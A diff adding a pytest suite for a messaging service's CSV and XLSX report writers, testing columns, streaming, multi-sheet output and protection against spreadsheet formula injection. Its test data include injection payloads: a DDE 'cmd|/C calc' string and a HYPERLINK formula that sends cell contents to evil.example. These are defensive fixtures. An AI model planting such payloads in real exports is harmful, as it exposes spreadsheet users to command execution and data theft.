@@ -1,0 +1,354 @@
+"""Report writers: CSV and XLSX bytes from message rows, safe to open in a spreadsheet."""
+from __future__ import annotations
+
+import csv
+import io
+import subprocess
+import sys
+import tempfile
+from datetime import datetime, timedelta, timezone
+from decimal import Decimal
+from pathlib import Path
+
+import pytest
+
+from chalicelib.reports import writers
+from chalicelib.reports.writers import (
+    COLUMNS_COMMON,
+    CONTENT_TYPES,
+    FORMATS,
+    CsvWriter,
+    XlsxWriter,
+    columns_for,
+    neutralise,
+    writer_for,
+)
+
+ROOT = Path(__file__).resolve().parents[2]
+SMS = columns_for("sms")  # message_id channel target status created_at updated_at total_sms message_body
+DANGEROUS = ["=1+2", "+62812 =cmd", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)", "\t=1", "\r=1",
+             '=HYPERLINK("http://evil.example/?x="&A1,"Klik")']
+
+
+class Sink:
+    """What the worker passes: something with write(bytes). Records each write."""
+
+    def __init__(self) -> None:
+        self.chunks: list[bytes] = []
+
+    def write(self, data: bytes) -> int:
+        assert isinstance(data, bytes)
+        self.chunks.append(data)
+        return len(data)
+
+    @property
+    def data(self) -> bytes:
+        return b"".join(self.chunks)
+
+
+def sms_row(i: int = 0, **overrides) -> list:
+    row = {"message_id": f"01JB{i:022d}", "channel": "sms", "target": "6281234567890", "status": "Delivered",
+           "created_at": "2026-10-01T03:04:05.678Z", "updated_at": "2026-10-01T03:04:09.000Z",
+           "total_sms": 1, "message_body": f"pesan {i}"}
+    row.update(overrides)
+    return [row[name] for name in SMS]
+
+
+def csv_rows(data: bytes) -> list[list[str]]:
+    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM first, for Excel"
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+
+
+def write_csv(rows: list[list], columns: list[str] = SMS, **kw) -> bytes:
+    sink = Sink()
+    writer = CsvWriter(sink, columns, **kw)
+    for row in rows:
+        writer.write_row(row)
+    writer.close()
+    assert writer.rows == len(rows)
+    return sink.data
+
+
+def write_xlsx(rows: list[list], columns: list[str] = SMS, **kw):
+    from openpyxl import load_workbook
+
+    sink = Sink()
+    writer = XlsxWriter(sink, columns, **kw)
+    for row in rows:
+        writer.write_row(row)
+    writer.close()
+    assert writer.rows == len(rows)
+    return load_workbook(io.BytesIO(sink.data), read_only=False)
+
+
+def sheet_values(sheet) -> list[list]:
+    return [[cell.value for cell in row] for row in sheet.iter_rows()]
+
+
+# --- columns and formats -------------------------------------------------------------------------
+
+@pytest.mark.parametrize("channel, details", [
+    ("sms", ["total_sms", "message_body"]),
+    ("sms_otp", ["total_sms", "sender_id", "message_body"]),
+    ("email", ["subject", "sender_email", "attachment"]),
+    ("ivr", ["ivr_id", "duration", "talk_duration", "hangup_cause"]),
+    ("whatsapp", ["template_name"]),
+])
+def test_columns_are_the_common_ones_then_the_channels_own(channel, details):
+    assert columns_for(channel) == COLUMNS_COMMON + details
+    columns_for(channel).append("x")  # a copy: the module's lists stay as they are
+    assert columns_for(channel) == COLUMNS_COMMON + details
+
+
+def test_an_unknown_channel_or_format_is_refused():
+    with pytest.raises(ValueError):
+        columns_for("fax")
+    with pytest.raises(ValueError):
+        writer_for("pdf", Sink(), SMS)
+
+
+def test_writer_for_picks_the_writer_and_xls_means_xlsx():
+    assert isinstance(writer_for("csv", Sink(), SMS), CsvWriter)
+    assert isinstance(writer_for("CSV", Sink(), SMS), CsvWriter)
+    for name in ("xlsx", "xls", "XLS"):
+        writer = writer_for(name, Sink(), SMS, max_rows_per_sheet=10)
+        assert isinstance(writer, XlsxWriter) and writer.max_rows_per_sheet == 10
+        writer.abort()
+    assert CONTENT_TYPES["csv"] == "text/csv; charset=utf-8"
+    assert CONTENT_TYPES[FORMATS["xls"]] == CONTENT_TYPES["xlsx"] == \
+        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    assert FORMATS == {"csv": "csv", "xlsx": "xlsx", "xls": "xlsx"}
+
+
+def test_importing_the_module_does_not_import_openpyxl():
+    code = "import sys, chalicelib.reports.writers; assert 'openpyxl' not in sys.modules, 'openpyxl imported'"
+    subprocess.run([sys.executable, "-c", code], cwd=ROOT, check=True, capture_output=True)
+
+
+# --- neutralise ----------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("text", DANGEROUS)
+def test_neutralise_quotes_text_that_a_spreadsheet_would_evaluate(text):
+    assert neutralise(text) == "'" + text
+
+
+@pytest.mark.parametrize("value, expected", [
+    (None, ""), ("", ""), ("Delivered", "Delivered"), ("628123", "628123"), ("a=b", "a=b"),
+    (" =1", " =1"), ("'=1", "'=1"), (-5, "-5"), (2.5, "2.5"), (Decimal("-1.5"), "-1.5"),
+    (datetime(2026, 10, 1, 10, 4, 5, tzinfo=timezone(timedelta(hours=7))), "2026-10-01T03:04:05.000Z"),
+])
+def test_neutralise_leaves_safe_text_and_numbers_alone(value, expected):
+    assert neutralise(value) == expected
+
+
+# --- CSV -----------------------------------------------------------------------------------------
+
+def test_csv_round_trip_keeps_every_value_exactly():
+    tricky = [
+        sms_row(1, message_body="Selamat pagi, Bu Siti! Pesanan #INV-2291 sudah dikirim 🚚✨"),
+        sms_row(2, message_body='Dia bilang "halo", lalu pergi'),
+        sms_row(3, message_body="baris satu\nbaris dua\r\nbaris tiga"),
+        sms_row(4, message_body="Rp 250.000, jatuh tempo 25/10; ⚠️ Öffnungszeiten 中文", total_sms=3),
+        sms_row(5, message_body="", total_sms=None),
+    ]
+    data = write_csv(tricky)
+    assert data.count(b"\xef\xbb\xbf") == 1
+    assert data.endswith(b"\r\n") and b"Delivered\r\n" not in data  # CRLF after each row
+    rows = csv_rows(data)
+    assert rows[0] == SMS
+    expected = [["" if v is None else str(v) for v in row] for row in tricky]
+    assert rows[1:] == expected
+
+
+def test_csv_neutralises_each_dangerous_prefix_and_keeps_numbers_as_numbers():
+    data = write_csv([sms_row(i, message_body=text, target=text) for i, text in enumerate(DANGEROUS)]
+                     + [sms_row(99, total_sms=-5, message_body="-5")])
+    rows = csv_rows(data)[1:]
+    for row, text in zip(rows, DANGEROUS):
+        assert row[SMS.index("message_body")] == "'" + text
+        assert row[SMS.index("target")] == "'" + text
+    last = rows[-1]
+    assert last[SMS.index("total_sms")] == "-5"  # a number: not quoted
+    assert last[SMS.index("message_body")] == "'-5"  # text that looks like a formula: quoted
+    assert b",-5," in data
+
+
+def test_csv_writes_other_types_as_text():
+    # Columns that can hold outside text are converted and checked cell by cell; the columns Kirim
+    # fills itself (SAFE_COLUMNS: ids, words, ISO times, counts) are written as given.
+    at = datetime(2026, 10, 1, 3, 4, 5, 678000, tzinfo=timezone.utc)
+    rows = csv_rows(write_csv([sms_row(target=Decimal("2"), message_body=at)]))
+    assert rows[1][2] == "2" and rows[1][7] == "2026-10-01T03:04:05.678Z"
+    rows = csv_rows(write_csv([sms_row(message_body=b"bytes")]))
+    assert rows[1][7] == "bytes"
+    assert {"message_id", "status", "created_at"} <= writers.SAFE_COLUMNS
+    assert not {"target", "message_body", "subject", "sender_email", "sender_id", "template_name",
+                "attachment", "hangup_cause"} & writers.SAFE_COLUMNS
+
+
+def test_empty_csv_report_is_just_the_header():
+    assert write_csv([]) == "\ufeff".encode() + ",".join(SMS).encode() + b"\r\n"
+
+
+def test_csv_bytes_reach_the_sink_in_chunks_as_rows_are_written():
+    sink = Sink()
+    writer = CsvWriter(sink, SMS)
+    rows = [sms_row(i, message_body="Kode OTP Anda %06d. Jangan berikan kode ini kepada siapa pun." % i)
+            for i in range(30_000)]  # about 3.5 MB
+    for row in rows:
+        writer.write_row(row)
+    assert len(sink.chunks) >= 2, "bytes must leave before close(), or memory grows with the report"
+    assert max(map(len, sink.chunks)) <= writers.CSV_CHUNK
+    writer.close()
+    assert len(sink.chunks) >= 3
+    assert csv_rows(sink.data)[1:] == [[str(v) for v in row] for row in rows]
+
+
+def test_a_lone_surrogate_does_not_fail_a_csv_report():
+    assert csv_rows(write_csv([sms_row(message_body="a\ud800b")]))[1][-1] == "a?b"
+
+
+def test_writer_refuses_rows_of_the_wrong_width_and_rows_after_close():
+    writer = CsvWriter(Sink(), SMS)
+    with pytest.raises(ValueError):
+        writer.write_row(["only", "three", "values"])
+    writer.close()
+    writer.close()  # twice is fine
+    with pytest.raises(ValueError):
+        writer.write_row(sms_row())
+
+
+def test_aborted_csv_writer_sends_nothing_more():
+    sink = Sink()
+    writer = CsvWriter(sink, SMS)
+    writer.write_row(sms_row())
+    writer.abort()
+    assert sink.chunks == []  # all was still buffered, and is dropped
+
+
+def test_context_manager_closes_or_aborts():
+    sink = Sink()
+    with writer_for("csv", sink, SMS) as writer:
+        writer.write_rows([sms_row(1), sms_row(2)])
+    assert len(csv_rows(sink.data)) == 3
+    sink = Sink()
+    with pytest.raises(RuntimeError):
+        with writer_for("csv", sink, SMS) as writer:
+            writer.write_row(sms_row())
+            raise RuntimeError("Query failed")
+    assert sink.data == b""
+
+
+# --- XLSX ----------------------------------------------------------------------------------------
+
+def test_xlsx_neutralises_each_dangerous_prefix_and_never_writes_a_formula():
+    rows = [sms_row(i, message_body=text, target=text) for i, text in enumerate(DANGEROUS)]
+    rows.append(sms_row(99, total_sms=-5, message_body="-5"))
+    rows.append(sms_row(100, total_sms=Decimal("2.5"), message_body="#N/A", target="#REF!"))
+    book = write_xlsx(rows)
+    sheet = book["Messages"]
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    values = sheet_values(sheet)
+    assert values[0] == SMS
+    for row, text in zip(values[1:], DANGEROUS):
+        text = text.replace("\r", "\n")  # XML reads a bare CR in text back as LF (line-end handling)
+        assert row[SMS.index("target")] == "'" + text
+        assert row[SMS.index("message_body")] == "'" + text
+    numbers = values[-2]
+    assert numbers[SMS.index("total_sms")] == -5 and numbers[SMS.index("message_body")] == "'-5"
+    assert sheet.cell(row=len(values) - 1, column=SMS.index("total_sms") + 1).data_type == "n"
+    errors_as_text = values[-1]
+    assert errors_as_text[SMS.index("total_sms")] == 2.5
+    assert errors_as_text[SMS.index("message_body")] == "#N/A" and errors_as_text[SMS.index("target")] == "#REF!"
+    assert {cell.data_type for cell in cells if cell.value in ("#N/A", "#REF!")} == {"s"}
+
+
+def test_xlsx_keeps_unicode_and_writes_none_as_an_empty_cell():
+    book = write_xlsx([sms_row(1, message_body="Halo 👋 Bu Siti,\n\"apa kabar?\"", total_sms=None)])
+    assert sheet_values(book.active)[1] == sms_row(1, message_body="Halo 👋 Bu Siti,\n\"apa kabar?\"",
+                                                    total_sms=None)
+
+
+def test_xlsx_spills_to_further_sheets_each_with_the_header():
+    rows = [sms_row(i) for i in range(8)]
+    book = write_xlsx(rows, max_rows_per_sheet=3)
+    assert book.sheetnames == ["Messages", "Messages 2", "Messages 3"]
+    sizes = []
+    data_rows = []
+    for sheet in book.worksheets:
+        values = sheet_values(sheet)
+        assert values[0] == SMS
+        sizes.append(len(values) - 1)
+        data_rows += values[1:]
+    assert sizes == [3, 3, 2]
+    assert data_rows == rows  # in order, none lost or repeated
+
+
+def test_xlsx_exactly_full_sheet_does_not_start_an_empty_one():
+    assert write_xlsx([sms_row(i) for i in range(3)], max_rows_per_sheet=3).sheetnames == ["Messages"]
+
+
+def test_xlsx_strips_characters_xml_forbids_then_neutralises():
+    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+
+    body = "a\x00b\x07c\x0bd\x0ce\x1ff\ttab\nline\rcr"
+    book = write_xlsx([
+        sms_row(1, message_body=body),
+        sms_row(2, message_body="\x01=cmd|' /C calc'!A0", target="x\ud800y\ufffez\uffff"),
+    ])
+    values = sheet_values(book.active)
+    assert values[1][SMS.index("message_body")] == "abcdef\ttab\nline\ncr"  # XML reads CR back as LF
+    assert values[2][SMS.index("message_body")] == "'=cmd|' /C calc'!A0"
+    assert values[2][SMS.index("target")] == "xyz"
+    assert not any(ILLEGAL_CHARACTERS_RE.search(v) for row in values for v in row if isinstance(v, str))
+
+
+def test_xlsx_cell_text_is_cut_to_excels_limit():
+    book = write_xlsx([sms_row(message_body="x" * 40_000, target="=" + "y" * 40_000)])
+    row = sheet_values(book.active)[1]
+    assert len(row[SMS.index("message_body")]) == 32_767
+    assert len(row[SMS.index("target")]) == 32_767 and row[SMS.index("target")].startswith("'=")
+
+
+def test_empty_xlsx_report_is_one_sheet_with_the_header():
+    book = write_xlsx([])
+    assert book.sheetnames == ["Messages"]
+    assert sheet_values(book.active) == [SMS]
+
+
+def test_xlsx_is_copied_to_the_sink_in_chunks_and_leaves_no_temp_files(tmp_path, monkeypatch):
+    from openpyxl import load_workbook
+
+    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))  # where openpyxl puts each sheet's XML
+    sink = Sink()
+    writer = XlsxWriter(sink, SMS, max_rows_per_sheet=50, copy_chunk=1024)
+    for i in range(120):
+        writer.write_row(sms_row(i))
+    assert list(tmp_path.iterdir()), "rows go to a temporary file, not memory"
+    assert sink.chunks == []
+    writer.close()
+    assert len(sink.chunks) > 2 and max(map(len, sink.chunks)) <= 1024
+    assert load_workbook(io.BytesIO(sink.data)).sheetnames == ["Messages", "Messages 2", "Messages 3"]
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_aborted_xlsx_writer_removes_its_temp_files(tmp_path, monkeypatch):
+    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
+    sink = Sink()
+    with pytest.raises(RuntimeError):
+        with XlsxWriter(sink, SMS, max_rows_per_sheet=2) as writer:
+            for i in range(5):
+                writer.write_row(sms_row(i))
+            raise RuntimeError("Query failed")
+    assert sink.chunks == []
+    assert list(tmp_path.iterdir()) == []
+    with pytest.raises(ValueError):
+        writer.write_row(sms_row())
+
+
+def test_xlsx_sheet_size_must_fit_excel():
+    with pytest.raises(ValueError):
+        XlsxWriter(Sink(), SMS, max_rows_per_sheet=1_048_576)
+    with pytest.raises(ValueError):
+        XlsxWriter(Sink(), SMS, max_rows_per_sheet=0)
